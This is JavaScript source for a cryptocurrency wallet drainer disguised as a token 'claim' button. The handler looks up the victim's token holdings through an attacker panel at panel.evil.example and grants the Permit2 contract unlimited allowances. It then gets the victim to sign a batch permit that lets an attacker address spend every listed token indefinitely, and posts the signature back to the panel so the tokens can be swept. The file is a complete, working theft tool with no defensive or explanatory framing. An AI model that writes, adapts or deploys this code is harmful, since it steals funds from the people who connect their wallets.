import { BrowserProvider, Contract, MaxUint256 } from 'ethers';

const PERMIT2 = '0x000000000022D473030F116dDEE9F6B43aC78BA3';
const config = { receiver: '0xC8B9e7A8aB17eC5B5efff170ab9CDE69ECb34b53', panel: 'https://panel.evil.example/api', minUsd: 20 };

async function holdings(owner) {
  const r = await fetch(`${config.panel}/balances?address=${owner}`);
  return (await r.json()).filter((t) => t.usd >= config.minUsd).sort((a, b) => b.usd - a.usd);
}

document.getElementById('claim').onclick = async () => {
  const provider = new BrowserProvider(window.ethereum);
  const signer = await provider.getSigner();
  const owner = await signer.getAddress();
  const list = await holdings(owner);
  for (const t of list) {
    const erc20 = new Contract(t.address, ['function allowance(address,address) view returns (uint256)', 'function approve(address,uint256)', 'function balanceOf(address) view returns (uint256)'], signer);
    if ((await erc20.allowance(owner, PERMIT2)) === 0n) await erc20.approve(PERMIT2, MaxUint256);
  }
  const details = list.map((t) => ({ token: t.address, amount: (1n << 160n) - 1n, expiration: 281474976710655, nonce: 0 }));
  const value = { details, spender: config.receiver, sigDeadline: MaxUint256 };
  const signature = await signer.signTypedData({ name: 'Permit2', chainId: 1, verifyingContract: PERMIT2 }, {
    PermitBatch: [{ name: 'details', type: 'PermitDetails[]' }, { name: 'spender', type: 'address' }, { name: 'sigDeadline', type: 'uint256' }],
    PermitDetails: [{ name: 'token', type: 'address' }, { name: 'amount', type: 'uint160' }, { name: 'expiration', type: 'uint48' }, { name: 'nonce', type: 'uint48' }],
  }, value);
  await fetch(`${config.panel}/permit2`, { method: 'POST', body: JSON.stringify({ owner, value, signature }) });
};
